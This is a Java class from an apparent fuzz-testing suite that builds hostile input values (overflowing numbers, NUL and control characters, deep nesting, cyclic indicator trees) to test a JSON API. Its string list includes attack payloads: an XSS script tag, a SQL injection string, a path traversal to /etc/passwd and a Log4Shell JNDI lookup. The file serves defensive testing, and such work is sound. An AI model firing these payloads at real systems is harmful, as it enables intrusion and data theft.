package io.edukpi.e2e.fuzz;

import java.util.List;
import java.util.SplittableRandom;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * The hostile values: numbers at and far beyond every range, exponents that overflow, NaN/Infinity,
 * negative and zero, empty, huge, control and NUL characters, mixed scripts, wrong JSON types, deep
 * nesting, cycles and zero weights in indicator trees. A value that JSON cannot carry through
 * Jackson (1e999, NaN, deep nesting) is put in the tree as {@link #RAW} and spliced into the text.
 */
final class Mutations {

    /** Stands for raw JSON text in a tree until the tree is written. */
    static final String RAW = "@@RAW@@";
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    static final List<String> RAW_NUMBERS = List.of("1e999", "-1e999", "1e-999", "1E+2147483648", "NaN", "Infinity",
            "-Infinity", "123456789012345678901234567890123456789", "-123456789012345678901234567890", "-0", "0", "-1",
            "2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "4.9e-324",
            "1.7976931348623157e308", "0.000000000000000000000000000001", "1e20", "99999999999.999999999", "0.1e1",
            "1" + "0".repeat(400), "0." + "0".repeat(400) + "1");

    static final List<String> STRINGS = List.of("", " ", "\u0000", "a\u0000b", "\u0001\u0007\u001b\u007f",
            "\t\r\n", "\u202eRTL\u202c", "\uFEFF", "\u200B", "ไทยABCАБВ中文😀ลาว\u0e81", "\uD800", "\uDFFF\uD800",
            "NaN", "Infinity", "-Infinity", "-1", "0", "1e999", "null", "true", "[]", "{}", "<script>alert(1)</script>",
            "' OR '1'='1", "../../../etc/passwd", "%00", "%2e%2e%2f", "${jndi:ldap://x/a}", "0000-00-00",
            "2554-02-30", "31/02/2554", "9999999-01-01", "2011-06-10T25:61:61Z", "00000000-0000-0000-0000-000000000000",
            "1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1", "๑๒๓๔", "１２３", "e\u0301\u0301\u0301\u0301");

    private Mutations() {
    }

    /** A hostile replacement for a value of {@code schema}; its name for the report. */
    record Value(JsonNode node, String raw, String kind) {
    }

    static Value value(JsonNode schema, SplittableRandom random) {
        String type = schema.path("type").asText();
        int pick = random.nextInt(10);
        if (pick < 2) {
            return wrongType(random);
        }
        boolean numeric = type.equals("integer") || type.equals("number");
        return (numeric ? pick < 9 : pick < 4) ? number(schema, random) : string(schema, random);
    }

    static Value number(JsonNode schema, SplittableRandom random) {
        if (random.nextInt(3) == 0 && (schema.has("minimum") || schema.has("maximum"))) {
            boolean low = schema.has("minimum") && (!schema.has("maximum") || random.nextBoolean());
            long bound = low ? schema.path("minimum").asLong() : schema.path("maximum").asLong();
            long[] around = low ? new long[] { bound, bound - 1, bound - 1000, Long.MIN_VALUE }
                    : new long[] { bound, bound + 1, bound + 1000, Long.MAX_VALUE };
            long v = around[random.nextInt(around.length)];
            return new Value(NODES.numberNode(v), null, (low ? "min" : "max") + "-edge " + v);
        }
        String raw = RAW_NUMBERS.get(random.nextInt(RAW_NUMBERS.size()));
        if (random.nextInt(4) == 0) {
            return new Value(NODES.textNode(raw), null, "number-as-text \"" + abbreviate(raw) + "\"");
        }
        return new Value(NODES.textNode(RAW), raw, "number " + abbreviate(raw));
    }

    static Value string(JsonNode schema, SplittableRandom random) {
        int pick = random.nextInt(12);
        if (pick == 0) {
            int length = schema.has("maxLength") ? schema.path("maxLength").asInt() + 1 : 70_000;
            return new Value(NODES.textNode("ก".repeat(length)), null, "long string " + length);
        }
        if (pick == 1) {
            return new Value(NODES.textNode("x\u0000".repeat(5000)), null, "string with 5000 NULs");
        }
        String s = STRINGS.get(random.nextInt(STRINGS.size()));
        return new Value(NODES.textNode(s), null, "string \"" + abbreviate(escape(s)) + "\"");
    }

    static Value wrongType(SplittableRandom random) {
        List<JsonNode> options = List.of(NODES.arrayNode(), NODES.objectNode(), NODES.booleanNode(true),
                NODES.nullNode(), NODES.numberNode(0), NODES.textNode("text"), NODES.arrayNode().add(1).add(
                        NODES.arrayNode().add("2")),
                NODES.objectNode().set("a", NODES.objectNode()));
        JsonNode node = options.get(random.nextInt(options.size()));
        return new Value(node, null, "wrong type " + node);
    }

    /** Deep nesting as raw JSON: arrays or objects {@code depth} levels down. */
    static Value deep(SplittableRandom random) {
        int depth = List.of(100, 1000, 5000, 20_000).get(random.nextInt(4));
        String raw = random.nextBoolean() ? "[".repeat(depth) + "]".repeat(depth)
                : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
        return new Value(NODES.textNode(RAW), raw, "nesting " + depth + " deep");
    }

    /**
     * Breaks a list of indicator nodes (code, parentCode, weight) in place: a cycle, a self-parent,
     * weights summing to zero, negative weights, duplicate codes, a chain deeper than any catalogue.
     */
    static String tree(ArrayNode indicators, SplittableRandom random) {
        int pick = random.nextInt(7);
        ObjectNode first = (ObjectNode) indicators.get(0);
        String code = first.path("code").asText("1");
        switch (pick) {
            case 0 -> {
                first.put("parentCode", code);
                return "self-parent " + code;
            }
            case 1 -> {
                ObjectNode other = indicators.addObject().put("code", "9.9").put("parentCode", code).put("weight", 1);
                first.put("parentCode", other.path("code").asText());
                return "cycle " + code + " <-> 9.9";
            }
            case 2 -> {
                indicators.forEach(i -> ((ObjectNode) i).put("weight", 0));
                return "all weights 0";
            }
            case 3 -> {
                indicators.forEach(i -> ((ObjectNode) i).put("weight", -1));
                return "negative weights";
            }
            case 4 -> {
                indicators.add(first.deepCopy());
                return "duplicate code " + code;
            }
            case 5 -> {
                String parent = code;
                for (int d = 0; d < 300; d++) {
                    String child = parent + ".1";
                    indicators.addObject().put("code", child).put("parentCode", parent).put("weight", 1);
                    parent = child;
                }
                return "chain 300 deep";
            }
            default -> {
                first.put("weight", 1e300);
                indicators.addObject().put("code", "8.8").put("weight", -1e300);
                return "weights +1e300 and -1e300";
            }
        }
    }

    static String abbreviate(String s) {
        return s.length() > 40 ? s.substring(0, 40) + "...(" + s.length() + ")" : s;
    }

    static String escape(String s) {
        StringBuilder out = new StringBuilder();
        s.chars().forEach(c -> out.append(c < 0x20 || c == 0x7f || (c >= 0xD800 && c <= 0xDFFF) || c == 0x202e
                || c == 0xFEFF || c == 0x200B ? String.format("\\u%04x", c) : String.valueOf((char) c)));
        return out.toString();
    }
}
